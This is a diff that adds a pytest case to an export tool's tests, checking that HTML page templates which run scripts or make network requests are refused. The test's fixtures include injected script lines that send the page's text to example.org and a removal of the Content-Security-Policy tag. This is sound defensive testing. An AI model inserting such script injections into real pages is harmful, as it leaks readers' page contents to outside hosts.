@@ -81,6 +81,20 @@ def test_a_moodle_template_that_breaks_the_xml_is_named_and_nothing_is_written(t
     assert "moodle.xml.j2" in result.stderr and "not well-formed XML" in result.stderr and not out.exists()
 
 
+@pytest.mark.parametrize("edit", [
+    ("</head>", "<script>fetch('https://example.org/?' + document.body.innerText)</script></head>"),
+    ("<body", "<body onload=\"fetch('https://example.org')\""),
+    ("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">", ""),
+])
+def test_a_page_template_that_would_run_code_or_fetch_is_refused(templates, tmp_path, edit):
+    page = templates / "page.html.j2"
+    page.write_text(page.read_text(encoding="utf-8").replace(*edit), encoding="utf-8")
+    out = tmp_path / "handout.html"
+    result = run_cli(["export", CASE, "--format", "html", "--templates", str(templates), "--out", str(out)],
+                     exit_code=2)
+    assert "page.html.j2" in result.stderr and not out.exists()
+
+
 def test_a_template_that_drops_the_educational_use_notice_is_refused(templates, tmp_path):
     page = templates / "page.html.j2"
     page.write_text(page.read_text(encoding="utf-8").replace("{{ doc.notice }}", ""), encoding="utf-8")
